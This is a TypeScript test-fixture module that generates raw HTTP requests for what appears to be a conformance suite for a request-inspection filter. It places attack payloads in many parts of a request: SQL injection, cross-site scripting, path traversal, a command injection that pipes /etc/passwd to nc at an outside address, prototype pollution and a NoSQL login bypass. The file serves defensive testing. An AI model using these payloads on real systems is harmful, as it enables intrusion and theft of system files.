import { gzipSync } from 'node:zlib';

/** A request as it goes over the wire, and what must become of it. */
export interface Row {
  readonly name: string;
  readonly method: string;
  readonly bytes: Buffer;
  /** Attacks only: the pointer of the member that holds the evidence. */
  readonly pointer?: string;
}

interface Parts {
  readonly target?: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string | Buffer;
  /** Of the evidence; `*` where parsers name the member in their own ways. */
  readonly pointer: string;
}

interface Place {
  readonly name: string;
  readonly methods: readonly string[];
  readonly of: (payload: string) => Parts;
}

const attacks: Readonly<Record<string, string>> = {
  'SQL injection': "' OR 1=1 --",
  'cross-site scripting': '<svg onload=alert(1)>',
  'path traversal': '../../../../../etc/passwd',
  'command injection': '; cat /etc/passwd | nc 203.0.113.9 4444',
};

const benign: Readonly<Record<string, string>> = {
  'a name': "O'Brien & Söhne",
  'a price': '10% off + 5 more = a union of savings',
  Japanese: '日本語のテキスト',
  nothing: '',
};

const bodiless = ['GET', 'POST', 'HEAD', 'OPTIONS'];
const bodied = ['POST', 'PUT'];
const enc = encodeURIComponent;
const json = { 'content-type': 'application/json' };
const form = { 'content-type': 'application/x-www-form-urlencoded' };
const multipart = { 'content-type': 'multipart/form-data; boundary=frontier' };

const places: readonly Place[] = [
  {
    name: 'query',
    methods: bodiless,
    of: (p) => ({ target: `/echo?page=2&q=${enc(p)}`, pointer: '/query.q' }),
  },
  {
    name: 'second of a name in the query',
    methods: bodiless,
    of: (p) => ({ target: `/echo?q=a&q=${enc(p)}`, pointer: '/query.q[1]' }),
  },
  {
    name: 'name in the query',
    methods: bodiless,
    of: (p) => ({ target: `/echo?${enc(p)}=1`, pointer: `/query.${escaped(p)}` }),
  },
  { name: 'path', methods: bodiless, of: (p) => ({ target: `/echo/${enc(p)}`, pointer: '/path' }) },
  {
    name: 'cookie',
    methods: bodiless,
    of: (p) => ({ headers: { cookie: `theme=dark; seen=${enc(p)}` }, pointer: '/cookie.seen' }),
  },
  {
    name: 'user agent',
    methods: bodiless,
    of: (p) => ({ headers: { 'user-agent': `agent ${ascii(p)}` }, pointer: '/header.user-agent' }),
  },
  {
    name: 'header by configuration',
    methods: bodiless,
    of: (p) => ({ headers: { 'x-tenant': ascii(p) }, pointer: '/header.x-tenant' }),
  },
  {
    name: 'JSON',
    methods: bodied,
    of: (p) => ({ headers: json, body: JSON.stringify({ a: 1, q: p }), pointer: '/body.q' }),
  },
  {
    name: 'JSON, deep',
    methods: bodied,
    of: (p) => ({
      headers: { 'content-type': 'application/json; charset=utf-8' },
      body: JSON.stringify({ filter: { any: [1, { not: { q: p } }] } }),
      pointer: '/body.filter.any[1].not.q',
    }),
  },
  {
    name: 'JSON array',
    methods: bodied,
    of: (p) => ({ headers: json, body: JSON.stringify([{ q: p }]), pointer: '/body[0].q' }),
  },
  {
    name: 'name in JSON',
    methods: bodied,
    of: (p) => ({
      headers: json,
      body: JSON.stringify({ [`x${p}`]: 1 }),
      pointer: `/body.x${escaped(p)}`,
    }),
  },
  {
    name: 'form',
    methods: bodied,
    of: (p) => ({ headers: form, body: `a=1&q=${enc(p)}`, pointer: '/body.q' }),
  },
  {
    name: 'second of a name in a form',
    methods: bodied,
    of: (p) => ({ headers: form, body: `q=a&q=${enc(p)}`, pointer: '*' }),
  },
  {
    name: 'multipart field',
    methods: bodied,
    of: (p) => ({ headers: multipart, body: parts(['q', p]), pointer: '/body.q' }),
  },
  {
    name: 'multipart file name',
    methods: bodied,
    of: (p) => ({
      headers: multipart,
      body: parts(['q', 'a'], ['doc', 'text', fileName(p)]),
      pointer: '/body.doc.filename',
    }),
  },
  {
    name: 'text',
    methods: bodied,
    of: (p) => ({ headers: { 'content-type': 'text/plain' }, body: p, pointer: '/body' }),
  },
];

function parts(...list: readonly (readonly [name: string, content: string, file?: string])[]) {
  const written = list.map(([name, content, file]) => {
    const suffix = file === undefined ? '' : `; filename="${file}"\r\ncontent-type: text/plain`;
    return `--frontier\r\ncontent-disposition: form-data; name="${name}"${suffix}\r\n\r\n${content}`;
  });
  return `${written.join('\r\n')}\r\n--frontier--\r\n`;
}

/** Parsers cut a name at its last slash, so that nobody behind them sees what is before. */
function fileName(text: string): string {
  return text.replaceAll('"', '%22').replaceAll('/', '%2f') || 'a.txt';
}

function escaped(text: string): string {
  return text.replaceAll('~', '~0').replaceAll('/', '~1');
}

/** Header values are Latin-1 on the wire. */
function ascii(text: string): string {
  return /^[\x20-\x7e]*$/.test(text) ? text : enc(text);
}

const sql = "' OR 1=1 --";
const sqlJson = JSON.stringify({ q: sql });

/** What the table of places does not have. */
const special: readonly (readonly [name: string, method: string, Parts, isAttack: boolean])[] = [
  ['empty JSON body', 'POST', { headers: json, body: '', pointer: '' }, false],
  ['broken JSON', 'POST', { headers: json, body: '{"a":', pointer: '' }, false],
  ['JSON scalar', 'POST', { headers: json, body: '"word"', pointer: '' }, false],
  ['empty object', 'PATCH', { headers: json, body: '{}', pointer: '' }, false],
  ['DELETE with a body', 'DELETE', { headers: json, body: '{"a":"b"}', pointer: '' }, false],
  ['GET with a body', 'GET', { headers: json, body: '{"a":"b"}', pointer: '' }, false],
  ['attack in the body of GET', 'GET', { headers: json, body: sqlJson, pointer: '/body.q' }, true],
  ['attack in DELETE', 'DELETE', { headers: json, body: sqlJson, pointer: '/body.q' }, true],
  [
    'unknown type',
    'POST',
    { headers: { 'content-type': 'a/b' }, body: 'text', pointer: '' },
    false,
  ],
  [
    'attack in a text of unknown type',
    'POST',
    { headers: { 'content-type': 'a/b' }, body: sqlJson, pointer: '*' },
    true,
  ],
  ['no type', 'POST', { body: 'some text', pointer: '' }, false],
  ['attack in a text without a type', 'POST', { body: sqlJson, pointer: '*' }, true],
  [
    'picture',
    'POST',
    {
      headers: { 'content-type': 'image/png' },
      body: Buffer.from('89504e470d0a1a0a0000000d49484452ff', 'hex'),
      pointer: '',
    },
    false,
  ],
  ['60 KB of JSON', 'POST', { headers: json, body: bigJson('word '), pointer: '' }, false],
  [
    'attack behind 60 KB of JSON',
    'POST',
    { headers: json, body: bigJson('word ', sql), pointer: '/body.q' },
    true,
  ],
  ['1,000 members', 'POST', { headers: json, body: manyMembers(1_000), pointer: '' }, false],
  [
    'attack behind 12,000 members',
    'POST',
    { headers: json, body: manyMembers(12_000, sql), pointer: '/body.q' },
    true,
  ],
  [
    'packed JSON',
    'POST',
    {
      headers: { ...json, 'content-encoding': 'gzip' },
      body: gzipSync('{"a":"b"}'),
      pointer: '',
    },
    false,
  ],
  [
    'attack in packed JSON',
    'POST',
    { headers: { ...json, 'content-encoding': 'gzip' }, body: gzipSync(sqlJson), pointer: '*' },
    true,
  ],
  [
    'prototype pollution',
    'POST',
    {
      headers: json,
      body: '{"__proto__":{"isAdmin":true}}',
      pointer: '/body.__proto__.isAdmin',
    },
    true,
  ],
  [
    'operator in a login',
    'POST',
    {
      headers: json,
      body: '{"user":"a","pass":{"$ne":null}}',
      pointer: '/body.pass.$ne',
    },
    true,
  ],
  ['operator in the query', 'GET', { target: '/echo?pass[$ne]=x', pointer: '*' }, true],
  [
    'cross-site form',
    'POST',
    {
      headers: { ...form, origin: 'https://elsewhere.test', 'sec-fetch-site': 'cross-site' },
      body: 'amount=5',
      pointer: '/header.origin',
    },
    true,
  ],
  [
    'form of the same site',
    'POST',
    {
      headers: { ...form, origin: 'http://app.test', 'sec-fetch-site': 'same-origin' },
      body: 'amount=5',
      pointer: '',
    },
    false,
  ],
];

function bigJson(word: string, q = 'fine'): string {
  return JSON.stringify({ text: word.repeat(12_000), q });
}

function manyMembers(count: number, q = 'fine'): string {
  const members = Array.from({ length: count }, (_, index) => `"m${index}":1`);
  return `{${members.join(',')},"q":${JSON.stringify(q)}}`;
}

/** All requests of the conformance suite. */
export function conformanceRows(): Row[] {
  const rows: Row[] = [];
  for (const { name, methods, of } of places) {
    for (const method of methods) {
      for (const [kind, payload] of Object.entries(attacks)) {
        rows.push(row(`${kind} in ${name}`, method, of(payload), true));
      }
      for (const [kind, payload] of Object.entries(benign)) {
        rows.push(row(`${kind} in ${name}`, method, of(payload), false));
      }
    }
  }
  for (const [name, method, given, isAttack] of special) {
    rows.push(row(name, method, given, isAttack));
    if (given.body === undefined) continue;
    rows.push(row(`${name}, in chunks`, method, given, isAttack, true));
  }
  return rows;
}

/** `inChunks`: with `transfer-encoding: chunked`, in several pieces. */
function row(name: string, method: string, given: Parts, isAttack: boolean, inChunks = false): Row {
  const { target = '/echo', headers = {}, pointer } = given;
  const body = given.body === undefined ? undefined : Buffer.from(given.body);
  const all: Record<string, string> = { host: 'app.test', ...headers };
  if (body !== undefined && inChunks) all['transfer-encoding'] = 'chunked';
  else if (body !== undefined) all['content-length'] = String(body.length);
  const head = Object.entries(all).map(([field, value]) => `${field}: ${value}\r\n`);
  const bytes = Buffer.concat([
    Buffer.from(`${method} ${target} HTTP/1.1\r\n${head.join('')}\r\n`, 'latin1'),
    body === undefined ? Buffer.alloc(0) : inChunks ? chunked(body) : body,
  ]);
  return { name: `${method}: ${name}`, method, bytes, ...(isAttack ? { pointer } : {}) };
}

function chunked(body: Buffer): Buffer {
  const half = Math.ceil(body.length / 2);
  const pieces = [body.subarray(0, half), body.subarray(half)].filter(({ length }) => length > 0);
  return Buffer.concat([
    ...pieces.flatMap((piece) => [
      Buffer.from(`${piece.length.toString(16)}\r\n`),
      piece,
      Buffer.from('\r\n'),
    ]),
    Buffer.from('0\r\n\r\n'),
  ]);
}
